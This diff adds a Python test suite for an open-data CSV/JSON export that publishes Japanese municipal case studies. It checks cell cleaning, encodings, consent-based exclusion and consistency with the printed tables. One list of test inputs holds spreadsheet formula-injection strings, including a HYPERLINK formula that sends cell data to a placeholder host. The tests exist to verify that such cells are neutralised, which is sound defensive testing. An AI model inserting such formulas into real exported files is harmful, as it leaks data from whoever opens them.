@@ -1,0 +1,141 @@
+"""Open data: machine-readable, harmless in a spreadsheet, only with consent, equal to what is printed."""
+
+import csv
+import io
+import json
+from dataclasses import replace
+from decimal import Decimal
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from casefinder.publish.content import EditionContent
+from casefinder.publish.data.csvfile import clean_cell, csv_bytes, original_text
+from casefinder.publish.data.files import csv_files, data_files
+from casefinder.publish.data.rows import rows_of
+from casefinder.publish.data.schema import CASES, INDICATORS, TABLES, THEMES
+
+TRIGGERS = ("=1+1", "+81-3-0000", "-2+3", "@SUM(1)", "\t=1", "\r=1", "＝1+1", '=HYPERLINK("http://x/"&A1)')
+
+
+def read(data: bytes) -> list[dict[str, str]]:
+    return list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))
+
+
+@pytest.mark.parametrize("text", TRIGGERS)
+def test_a_cell_is_never_a_formula(text: str) -> None:
+    assert clean_cell(text)[0] == "'"
+
+
+@pytest.mark.parametrize(
+    ("text", "cell"),
+    [
+        ("一行目\n二行目", "一行目 二行目"),
+        ("①㈱見本 5㎡", "1(株)見本 5m2"),
+        ("a\x00b", "ab"),
+        ("−77%", "−77%"),
+    ],
+)
+def test_cells_hold_one_line_of_plain_characters(text: str, cell: str) -> None:
+    assert clean_cell(text) == cell
+
+
+@given(st.text(alphabet=st.characters(blacklist_categories=("Cs", "Cc")), max_size=30))
+def test_cleaning_twice_changes_nothing_but_the_apostrophe(text: str) -> None:
+    once = clean_cell(text)
+
+    assert "\n" not in once
+    assert clean_cell(original_text(once)) == once
+
+
+def test_every_row_has_every_column_and_keys_are_unique(content: EditionContent) -> None:
+    for table in TABLES:
+        rows = rows_of(content, table)
+        assert rows
+        assert all(set(row) == {column.name for column in table.columns} for row in rows)
+        keys = [tuple(row[name] for name in table.key) for row in rows]
+        assert len(set(keys)) == len(keys)
+        required = [column.name for column in table.columns if column.required]
+        assert all(row[name] not in (None, "") for row in rows for name in required)
+
+
+def test_files_are_utf8_with_crlf_and_a_marked_copy_for_excel(content: EditionContent) -> None:
+    files = data_files(content)
+
+    for name in csv_files(content):
+        assert not files[name].startswith(b"\xef\xbb\xbf")
+        assert files[f"excel/{name}"] == b"\xef\xbb\xbf" + files[name]
+        assert files[name].count(b"\n") == files[name].count(b"\r\n")
+
+
+def test_a_case_without_consent_to_open_data_is_in_no_file(content: EditionContent) -> None:
+    canary = "カナリア㎡-7Q"
+    case = replace(
+        content.cases[0], open_data=False, title=canary, lead=canary, products=canary, background=(canary,)
+    )
+    closed = replace(content, cases=(case, *content.cases[1:]), theme_summaries=())
+
+    for name, data in data_files(closed).items():
+        assert "カナリア" not in data.decode(), name
+        assert f"{content.slug}-01" not in data.decode(), name
+    assert (
+        "カナリア"
+        in data_files(replace(closed, cases=(replace(case, open_data=True),)))["cases.json"].decode()
+    )
+
+
+def test_an_unnamed_organisation_has_no_code_and_no_reading(content: EditionContent) -> None:
+    row = next(row for row in read(csv_files(content)["cases.csv"]) if row["case_number"] == "16")
+
+    assert row["organisation_name"] == "（団体名非公表）"
+    assert row["organisation_code"] == row["organisation_name_kana"] == ""
+
+
+def test_unknown_cost_is_empty_and_no_cost_is_zero(content: EditionContent) -> None:
+    opened = replace(content, cases=tuple(replace(case, open_data=True) for case in content.cases))
+    rows = {row["case_number"]: row for row in read(csv_bytes(CASES, rows_of(opened, CASES)))}
+
+    assert rows["10"]["initial_cost_thousand_yen"] == ""
+    assert rows["16"]["yearly_cost_thousand_yen"] == "0"
+
+
+def test_every_number_printed_in_the_table_of_effects_equals_the_data(content: EditionContent) -> None:
+    rows = read(csv_files(content)["case_indicators.csv"])
+    printed = {(f"{content.slug}-{c.code}", str(i)): e for c in content.cases if c.open_data for i, e in enumerate(c.effects, 1)}  # fmt: skip
+
+    assert {(row["case_id"], row["row"]) for row in rows} == set(printed)
+    for row in rows:
+        effect = printed[row["case_id"], row["row"]]
+        assert (row["before_text"], row["after_text"]) == (effect.before, effect.after)
+        if row["after_value"]:
+            assert Decimal(row["after_value"]) == effect.after_value
+            assert row["after_value"].rstrip("0").rstrip(".") in effect.after
+
+
+def test_tags_have_a_row_each(content: EditionContent) -> None:
+    rows = [row for row in read(csv_files(content)["case_themes.csv"]) if row["case_id"].endswith("-05")]
+
+    assert [row["label"] for row in rows if row["scheme"] == "field"] == ["医療介護健康", "交通・物流"]
+
+
+def test_the_package_and_the_definitions_describe_every_column(content: EditionContent) -> None:
+    files = data_files(content)
+    package = json.loads(files["datapackage.json"])
+
+    described = {
+        resource["path"]: [f["name"] for f in resource["schema"]["fields"]]
+        for resource in package["resources"]
+    }
+    assert described == {table.name: [column.name for column in table.columns] for table in TABLES}
+    assert len(read(files["definitions.csv"])) == sum(len(table.columns) for table in TABLES)
+    for column in (*CASES.columns, *THEMES.columns, *INDICATORS.columns):
+        assert column.name in files["definitions.html"].decode()
+
+
+def test_json_holds_the_long_texts_that_csv_does_not(content: EditionContent) -> None:
+    cases = json.loads(data_files(content)["cases.json"])["cases"]
+
+    assert len(cases) == 15
+    assert cases[0]["background"] == list(content.cases[0].background)
+    assert "open_data" not in cases[0]
